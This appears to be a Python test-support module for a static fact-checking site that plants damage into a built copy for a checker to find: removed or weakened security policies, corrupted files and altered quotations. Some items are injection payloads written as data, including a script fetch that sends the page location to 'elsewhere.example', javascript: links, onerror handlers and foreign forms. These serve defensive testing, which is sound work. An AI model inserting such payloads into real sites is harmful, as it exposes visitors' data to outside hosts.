"""Damage to plant in a built site, one of each kind, as a fault of ours, a bad copy or an intruder would leave it.

Each is planted in a site that is whole, with a page of a claim and of an article.
"""

import gzip
import io
import re
import sqlite3
import zipfile
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path

from tests.support.planted_links import ARTICLE, CLAIM, Plot

HOME, FIND, MISSING, PRINT = "index.html", "find/index.html", "404.html", "print/index.html"
EMBED = "embed/{claim}/index.html"
DATABASE, OFFLINE = "data/claims.db", "data/offline.zip"
_POLICY = r'<meta http-equiv="Content-Security-Policy"[^>]*>'


@dataclass(frozen=True)
class Damage:
    """One kind of damage: its name, and the code and words of a problem that must be found. Others may be, too."""

    name: str
    code: str
    words: str
    plant: Callable[[Plot], None] = field(repr=False)


def _on(name: str, code: str, page: str, html: str, words: str) -> Damage:
    """Damage that is a piece of HTML at the end of a page."""
    return Damage(name, code, words, lambda plot: plot.insert(page, html))


def _no_policy(name: str, page: str) -> Damage:
    """A page without its policy."""
    return Damage(name, "content-policy", "no Content-Security-Policy", lambda plot: plot.change(page, _POLICY, ""))


def _policy(name: str, page: str, old: str, new: str, words: str) -> Damage:
    """Damage to the text of a page's policy."""
    return Damage(name, "content-policy", words, lambda plot: plot.change(page, re.escape(old), new))


def _drawing(name: str, code: str, inner: str, words: str) -> Damage:
    """Damage that is a drawing with something in it."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>'
    return Damage(name, code, words, lambda plot: plot.write("planted/x.svg", svg))


def _file(name: str, code: str, path: str, change: Callable[[bytes], bytes], words: str) -> Damage:
    """Damage to the bytes of a file; in its path, `*` is the first of several."""
    return Damage(name, code, words, lambda plot: _change(plot, path, change))


def _gone(name: str, code: str, path: str, words: str) -> Damage:
    """Damage that is a missing file."""
    return Damage(name, code, words, lambda plot: _found(plot, path).unlink())


def _more(name: str, path: str, words: str) -> Damage:
    """Damage that is a file more."""
    return Damage(name, "unchecked-file", words, lambda plot: plot.write(path, "x"))


def _unmarked(name: str, old: str, new: str) -> Damage:
    """Damage to a tag that takes the marks of a claim out of sight."""
    return Damage(name, "missing-words", "not marked", lambda plot: plot.change(CLAIM, old, new))


def _found(plot: Plot, path: str) -> Path:
    return min(plot.site.glob(path.format(claim=plot.claim, article=plot.article)))


def _change(plot: Plot, path: str, change: Callable[[bytes], bytes]) -> None:
    file = _found(plot, path)
    old = file.read_bytes()
    new = change(old)
    assert new != old, path
    plot.write(file.relative_to(plot.site).as_posix(), new)


def _emptied(_raw: bytes) -> bytes:
    return b""


def _half(raw: bytes) -> bytes:
    return raw[: len(raw) // 2]


def _without_rows(raw: bytes) -> bytes:
    return raw[: raw.index(b"\n") + 1]


def _of_another_build(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    return lambda raw: raw.replace(old, new, 1)


def _in_database(statement: str) -> Callable[[bytes], bytes]:
    def changed(raw: bytes) -> bytes:
        with closing(sqlite3.connect(":memory:", isolation_level=None)) as database:
            database.deserialize(raw)
            database.executescript(statement)
            return bytes(database.serialize())

    return changed


def _in_zip(name: str, change: Callable[[bytes], bytes] | None) -> Callable[[bytes], bytes]:
    """A ZIP in which the first file with that ending is changed, or left out."""

    def changed(raw: bytes) -> bytes:
        packed = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new:
            chosen = next(entry for entry in old.namelist() if entry.endswith(name))
            for entry in old.namelist():
                content = old.read(entry)
                if entry != chosen:
                    new.writestr(entry, content)
                elif change:
                    new.writestr(entry, change(content))
        return packed.getvalue()

    return changed


def _in_zip_too(name: str) -> Callable[[bytes], bytes]:
    """A ZIP with a file more."""

    def changed(raw: bytes) -> bytes:
        packed = io.BytesIO(raw)
        with zipfile.ZipFile(packed, "a") as archive:
            archive.writestr(f"{archive.namelist()[0].partition('/')[0]}/{name}", "MZ")
        return packed.getvalue()

    return changed


def _compressed(change: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    """A change of what a file of the search index holds."""
    return lambda raw: gzip.compress(change(gzip.decompress(raw)))


def _remove_folder(plot: Plot, folder: str) -> None:
    for file in sorted(plot.site.glob(f"{folder}/**/*"), reverse=True):
        file.rmdir() if file.is_dir() else file.unlink()


def _everywhere(plot: Plot, pattern: str, new: str) -> None:
    """Replace every match on every page."""
    for page in sorted(plot.site.rglob("*.html")):
        old = page.read_text(encoding="utf-8")
        changed = re.sub(pattern, lambda _: new, old)
        if changed != old:
            plot.write(page.relative_to(plot.site).as_posix(), changed)


_SCRIPT = '<script>fetch("https://elsewhere.example/?" + location)</script>'

DAMAGES = [
    # The policy of a page
    _no_policy("no policy on a claim", CLAIM),
    _no_policy("no policy on an article", ARTICLE),
    _no_policy("no policy on an embedded page", EMBED),
    _no_policy("no policy on the printable page", PRINT),
    _no_policy("no policy on the 404 page", MISSING),
    _no_policy("no policy on the Find page", FIND),
    Damage("no policy anywhere", "content-policy", "pages, first", lambda plot: _everywhere(plot, _POLICY, "")),
    _policy("any inline script", CLAIM, "script-src 'self'", "script-src 'self' 'unsafe-inline'", "'unsafe-inline'"),
    _policy("code from text", HOME, "script-src 'self'", "script-src 'self' 'unsafe-eval'", "script-src 'unsafe-eval'"),
    _policy(
        "scripts of another host", CLAIM, "script-src 'self'", "script-src 'self' https://cdn.example", "cdn.example"
    ),
    _policy("any address", FIND, "connect-src 'self'", "connect-src *", "connect-src *"),
    _policy("any base", HOME, " base-uri 'none';", "", "lacks base-uri 'none'"),
    _policy("any form", HOME, "; form-action 'self'", "", "lacks form-action 'self'"),
    _policy("a weaker default", ARTICLE, "default-src 'none'", "default-src 'self'", "default-src 'self'"),
    _policy("a policy that stops the page", HOME, "script-src 'self'", "script-src 'none'", "lacks script-src 'self'"),
    _policy("a policy that only reports", CLAIM, "Security-Policy", "Security-Policy-Report-Only", "no Content"),
    Damage(
        "a policy after the scripts",
        "content-policy",
        "no Content-Security-Policy before",
        lambda plot: _late_policy(plot, CLAIM),
    ),
    _policy("no referrer policy", CLAIM, '<meta name="referrer"', "<meta name=x", "referrer policy"),
    _policy("a weaker referrer policy", EMBED, 'content="no-referrer"', 'content="unsafe-url"', "unsafe-url"),
    # What search engines are told
    Damage(
        "a claim that is not listed",
        "unfindable-page",
        "leave this page out",
        lambda plot: _head(plot, CLAIM, "robots"),
    ),
    Damage("a home page for nobody", "unfindable-page", "leave this page", lambda plot: _head(plot, HOME, "googlebot")),
    Damage(
        "a canonical address of another page",
        "unfindable-page",
        "in place of this page",
        lambda plot: plot.change(
            ARTICLE, r'(?<=<link rel="canonical" href=")[^"]*', "https://example.org/verbatim/about/"
        ),
    ),
    _file("a closed site", "unfindable-page", "robots.txt", lambda _: b"User-agent: *\nDisallow: /\n", "whole site"),
    # What browsers read otherwise
    _file("a script after the end", "forbidden-element", CLAIM, lambda raw: raw + _SCRIPT.encode(), "follows </html>"),
    _file("two pages in one", "forbidden-element", ARTICLE, lambda raw: raw + raw, "follows </html>"),
    _file("a NUL", "forbidden-element", CLAIM, lambda raw: raw.replace(b"</main>", b"\0</main>"), "a NUL character"),
    _file("no document type", "forbidden-element", HOME, lambda raw: raw[raw.index(b"<html") :], "<!doctype html>"),
    _file("another encoding", "forbidden-element", CLAIM, _of_another_build(b"utf-8", b"iso-8859-1"), "charset=utf-8"),
    _file("no language", "forbidden-element", CLAIM, _of_another_build(b' lang="en"', b""), "without lang"),
    *(
        _more(f"a file {name}", name, words)
        for name, words in (
            ("notes.htm", "as a page"),
            ("planted/x.xhtml", "as a page"),
            ("planted/X.HTML", "as a page"),
            ("planted/x.svgz", "as a page"),
            (".env", "of the data or of a tool"),
            (".git/config", "of the data or of a tool"),
            ("seeds/articles/talks.txt", "of the data or of a tool"),
            ("claims.yaml", "of the data or of a tool"),
        )
    ),
    # What runs, redirects or asks elsewhere
    _on(
        "an attribution",
        "third-party-request",
        CLAIM,
        '<a href="../" attributionsrc="https://elsewhere.example/">x</a>',
        "elsewhere.example",
    ),
    _on("inline fetch", "inline-script", CLAIM, _SCRIPT, "in the page itself"),
    _on("inline module", "inline-script", ARTICLE, '<script type="module">import("./x.js")</script>', "page itself"),
    _on("script on a page without scripts", "inline-script", EMBED, _SCRIPT, "in the page itself"),
    _on(
        "event handler", "inline-script", CLAIM, '<img src="../../assets/images/favicon.png" onerror="x()">', "onerror"
    ),
    _on("handler in a drawing of a page", "inline-script", CLAIM, '<svg onload="x()"></svg>', "<svg onload>"),
    _on("javascript: link", "inline-script", ARTICLE, '<a href="java\tscript:alert(1)">x</a>', "<a href>"),
    _on("data: link", "inline-script", CLAIM, '<a href="data:text/html,<b>x">x</a>', "<a href>"),
    _on("data: script", "inline-script", CLAIM, '<script src="data:text/javascript,x()"></script>', "<script src>"),
    _on("base", "forbidden-element", CLAIM, '<base href="https://elsewhere.example/">', "<base>"),
    _on("redirect", "forbidden-element", CLAIM, '<meta http-equiv="refresh" content="0; url=../">', "refresh"),
    _on("frame", "forbidden-element", CLAIM, '<iframe src="https://elsewhere.example/"></iframe>', "<iframe>"),
    _on("frame with a text", "forbidden-element", ARTICLE, '<iframe srcdoc="<b>x</b>"></iframe>', "<iframe>"),
    _on("object", "forbidden-element", CLAIM, '<object data="../../feed.xml"></object>', "<object>"),
    _on("style of an element", "forbidden-element", CLAIM, '<p style="display:none">x</p>', "<p style>"),
    _on("style of a page", "forbidden-element", CLAIM, "<style>mark { display: none }</style>", "refuse this style"),
    _on("foreign form", "foreign-form", CLAIM, '<form action="https://elsewhere.example/"></form>', "elsewhere"),
    _on("foreign button", "foreign-form", CLAIM, '<button formaction="//elsewhere.example/">x</button>', "elsewhere"),
    _on("letters by a form", "foreign-form", CLAIM, '<form action="mailto:a@elsewhere.example"></form>', "mailto:"),
    _on(
        "script of a drawing from elsewhere",
        "third-party-request",
        CLAIM,
        '<svg><script xlink:href="https://elsewhere.example/x.js"></script></svg>',
        "elsewhere.example/x.js",
    ),
    Damage(
        "import in a style sheet",
        "third-party-request",
        "elsewhere.example",
        lambda plot: plot.write("planted/a.css", "@import url(//elsewhere.example/a.css);"),
    ),
    Damage(
        "picture set in a style sheet",
        "third-party-request",
        "elsewhere.example",
        lambda plot: plot.write(
            "planted/b.css", "p { background: image-set('https://elsewhere.example/x.png' 1x type('image/png')) }"
        ),
    ),
    _drawing("import in a drawing", "third-party-request", "<style>@import '//e.example/a.css';</style>", "e.example"),
    _drawing("script in a drawing", "inline-script", "<script>x()</script>", "<script>"),
    _drawing("handler in a drawing", "inline-script", '<path onclick="x()"/>', "onclick"),
    _drawing("link of a drawing", "inline-script", '<a href="javascript:x()"/>', "<a href>"),
    _drawing("page in a drawing", "forbidden-element", "<foreignObject/>", "foreignobject"),
    _drawing("picture in a drawing", "third-party-request", '<image href="https://e.example/a.png"/>', "e.example"),
    Damage(
        "style sheet of a drawing",
        "third-party-request",
        "e.example",
        lambda plot: plot.write(
            "planted/y.svg",
            '<?xml-stylesheet href="https://e.example/a.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        ),
    ),
    # Excerpts
    Damage("all marks replaced", "missing-words", "not marked", lambda plot: _marks(plot, CLAIM, "<b>", "</b>")),
    Damage("all marks removed", "missing-words", "not marked", lambda plot: _marks(plot, ARTICLE, "", "")),
    Damage("marks of the printable page", "missing-words", "not marked", lambda plot: _marks(plot, PRINT, "", "")),
    *(
        _unmarked(f"hidden: {what}", old, new)
        for what, old, new in (
            ("all", "<body ", "<body hidden "),
            ("the article", "<article ", "<article hidden "),
            ("a mark", "<mark ", "<mark hidden "),
            ("what nobody can use", "<main ", "<main inert "),
        )
    ),
    Damage("a mark in a template", "missing-words", "not marked", lambda plot: _wrapped(plot, CLAIM, "template")),
    Damage("a mark that is struck out", "missing-words", "not marked", lambda plot: _wrapped(plot, CLAIM, "del")),
    Damage(
        "one mark without its place",
        "false-quotation",
        "is not the text",
        lambda plot: plot.change(CLAIM, " data-start=", " data-was="),
    ),
    Damage(
        "one mark at another place",
        "false-quotation",
        "is not the text",
        lambda plot: plot.change(CLAIM, ' data-start="', ' data-start="1'),
    ),
    Damage("one letter of a mark", "false-quotation", "is not the text", lambda plot: _letter(plot, CLAIM)),
    _file("an emptied page", "unreadable-page", CLAIM, _emptied, "cannot be read"),
    _file("half a page", "missing-words", CLAIM, lambda raw: raw[: raw.index(b"<mark")], "not marked"),
    _gone("a missing page of a claim", "missing-from-site", CLAIM, "page is missing"),
    _gone("a missing page of an article", "missing-from-site", ARTICLE, "page is missing"),
    _gone("a missing page for unknown addresses", "missing-from-site", MISSING, "addresses that do not exist"),
    Damage("another claim", "missing-words", "claim", lambda plot: _word(plot, "Northland said", "Southland said")),
    Damage("another finding", "missing-words", "finding", lambda plot: _word(plot, "Yes. Its", "No. Its")),
    Damage("another status", "missing-words", "status", lambda plot: _word(plot, "Confirmed", "Wrong")),
    Damage(
        "another claim for search engines",
        "missing-words",
        "ClaimReview",
        lambda plot: plot.change(CLAIM, '"claimReviewed": "', '"claimReviewed": "Not: '),
    ),
    # The search index
    Damage("no search index", "search-index", "it is missing", lambda plot: _remove_folder(plot, "pagefind")),
    _file("an emptied list of the index", "search-index", "pagefind/pagefind-entry.json", _emptied, "empty"),
    _file(
        "an index of fewer pages",
        "search-index",
        "pagefind/pagefind-entry.json",
        lambda raw: re.sub(rb'"page_count":\d+', b'"page_count":1', raw),
        "says that it has 1 pages",
    ),
    _file("half a list of pages", "search-index", "pagefind/*.pf_meta", _half, "cannot be decompressed"),
    _file(
        "a list of pages cut within",
        "search-index",
        "pagefind/*.pf_meta",
        _compressed(lambda raw: raw[:40]),
        "no list of pages",
    ),
    _file(
        "a list of pages without its mark",
        "search-index",
        "pagefind/*.pf_meta",
        _compressed(lambda raw: raw[12:]),
        "the mark of Pagefind",
    ),
    _file("half the words", "search-index", "pagefind/index/*", _half, "cannot be decompressed"),
    _gone("no words", "search-index", "pagefind/index/*", "it is missing"),
    _gone("a missing page of the index", "search-index", "pagefind/fragment/*", "it is missing"),
    _file(
        "another build's page in the index",
        "search-index",
        "pagefind/fragment/*",
        _compressed(lambda raw: re.sub(rb'"content":"[^"]{40}', b'"content":"', raw)),
        "other words than this claim",
    ),
    _gone("no program of the search", "search-index", "pagefind/pagefind.js", "it is missing"),
    _file("half the program of the search", "search-index", "pagefind/wasm.en.pagefind", _half, "decompressed"),
    _file(
        "other passages in the index",
        "search-index",
        "pagefind/fragment/*",
        _compressed(lambda raw: raw.replace(b"v-quoted", b"v-ours", 1)),
        "other passages than this claim",
    ),
    # Data
    _file("an emptied database", "damaged-file", DATABASE, _emptied, "claims.db"),
    _file("half a database", "damaged-file", DATABASE, _half, "cannot be opened"),
    _gone("no database", "missing-from-site", DATABASE, "is missing"),
    _file("a database without claims", "damaged-file", DATABASE, _in_database("DELETE FROM claims"), "its claims are"),
    _file("a database without excerpts", "damaged-file", DATABASE, _in_database("DELETE FROM excerpts"), "excerpts"),
    _file(
        "a database of another build",
        "damaged-file",
        DATABASE,
        _in_database("UPDATE claims SET finding = 'x'"),
        "another",
    ),
    _file("an emptied ZIP", "damaged-file", OFFLINE, _emptied, "offline.zip"),
    _file("half a ZIP", "damaged-file", OFFLINE, _half, "cannot be opened"),
    _gone("no ZIP", "missing-from-site", OFFLINE, "is missing"),
    _file("a ZIP without a page", "damaged-file", OFFLINE, _in_zip("about/index.html", None), "its pages are not"),
    _file(
        "a ZIP with another style",
        "damaged-file",
        OFFLINE,
        _in_zip("verbatim.css", lambda raw: raw + b" "),
        "of its files",
    ),
    _file(
        "a ZIP with a script in a page",
        "inline-script",
        OFFLINE,
        _in_zip("about/index.html", lambda raw: raw.replace(b"</body>", _SCRIPT.encode() + b"</body>")),
        "in the page itself",
    ),
    _file(
        "a ZIP without policies",
        "content-policy",
        OFFLINE,
        _in_zip("about/index.html", lambda raw: re.sub(_POLICY.encode(), b"", raw)),
        "no Content-Security-Policy",
    ),
    _file(
        "a ZIP without marks",
        "missing-words",
        OFFLINE,
        _in_zip("articles/talks/index.html", lambda raw: re.sub(b"<mark[^>]*>", b"<mark>", raw)),
        "not marked",
    ),
    _file(
        "a ZIP whose search has no claims",
        "damaged-file",
        OFFLINE,
        _in_zip("find/claims.js", lambda raw: re.sub(rb'"pages":\[.*\]', b'"pages":[]', raw)),
        "its search has other claims",
    ),
    _file("a ZIP with a program", "damaged-file", OFFLINE, _in_zip_too("x.exe"), "not those of the site"),
    _file("an emptied feed", "damaged-file", "feed.xml", _emptied, "feed.xml"),
    _file("half a feed", "damaged-file", "feed.xml", _half, "cannot be opened"),
    _gone("no feed", "missing-from-site", "corrections/feed.xml", "is missing"),
    _file(
        "a feed without entries",
        "damaged-file",
        "feed.xml",
        lambda raw: re.sub(rb"<entry>.*</entry>", b"", raw, flags=re.DOTALL),
        "of the newest",
    ),
    _file(
        "a JSON feed without entries",
        "damaged-file",
        "feed.json",
        lambda raw: re.sub(rb'"items": ?\[.*\]', b'"items": []', raw, flags=re.DOTALL),
        "its entries are not those",
    ),
    _file("half a file of the API", "damaged-file", "api/v1/claims.json", _half, "cannot be opened"),
    _gone("no file of a claim", "missing-from-site", "api/v1/claims/{claim}.json", "is missing"),
    _file("a table without rows", "damaged-file", "api/v1/claims.csv", _without_rows, "its rows are not"),
    _file("an emptied list of lines", "damaged-file", "api/v1/claims.jsonl", _emptied, "jsonl"),
    _file(
        "a file of the API with another total",
        "damaged-file",
        "api/v1/sources.json",
        lambda raw: re.sub(rb'"total": ?\d+', b'"total": 99', raw),
        "it says that it has 99",
    ),
    _file(
        "a file of the API of another build",
        "damaged-file",
        "api/v1/claims.json",
        _of_another_build(b'"finding"', b'"found"'),
        "of another build",
    ),
    _file("half an index of the filters", "unreadable-page", "api/v1/facets.json", _half, "cannot be read"),
    _file("half a citation", "damaged-file", "claims/{claim}/cite.bib", _half, "of another build"),
    _file("a changed embedded page", "damaged-file", EMBED, _of_another_build(b"<h1>", b"<h1>Not: "), "another build"),
    _file("a changed script", "damaged-file", "verbatim/find.js", _of_another_build(b"const", b"var"), "another build"),
    _file("an emptied style sheet", "damaged-file", "assets/stylesheets/main.*.css", _emptied, "it is empty"),
    _file("half a picture", "damaged-file", "embed/{claim}/card.png", _half, "no whole PNG picture"),
]


def _marks(plot: Plot, page: str, start: str, end: str) -> None:
    """Replace the tags of all marks of a page."""
    text = plot.path(page).read_text(encoding="utf-8")
    plot.write(page, re.sub("<mark[^>]*>", start, text).replace("</mark>", end))


def _head(plot: Plot, page: str, name: str) -> None:
    """Tell search engines in the head of a page to leave it out."""
    plot.change(page, "</head>", f'<meta name="{name}" content="noindex"></head>')


def _wrapped(plot: Plot, page: str, tag: str) -> None:
    """Put the first mark of a page into another element."""
    text = plot.path(page.replace("CLAIM", plot.claim)).read_text(encoding="utf-8")
    found = re.search(r"<mark .*?</mark>", text, re.DOTALL)
    assert found
    plot.write(page.replace("CLAIM", plot.claim), text.replace(found[0], f"<{tag}>{found[0]}</{tag}>", 1))


def _letter(plot: Plot, page: str) -> None:
    """Change the last letter of the first mark of a page."""
    text = plot.path(page).read_text(encoding="utf-8")
    at = text.index("</mark>") - 1
    plot.write(page, f"{text[:at]}†{text[at + 1 :]}")


def _late_policy(plot: Plot, page: str) -> None:
    """Move the policy of a page to the end of its head."""
    text = plot.path(page).read_text(encoding="utf-8")
    plot.write(page, re.sub(f"({_POLICY})(.*?)</head>", r"\2\1</head>", text, count=1, flags=re.DOTALL))


def _word(plot: Plot, old: str, new: str) -> None:
    """Replace some words everywhere in the body of the claim's page."""
    head, _, body = plot.path(CLAIM).read_text(encoding="utf-8").partition("</head>")
    assert old in body
    plot.write(CLAIM, f"{head}</head>{body.replace(old, new)}")
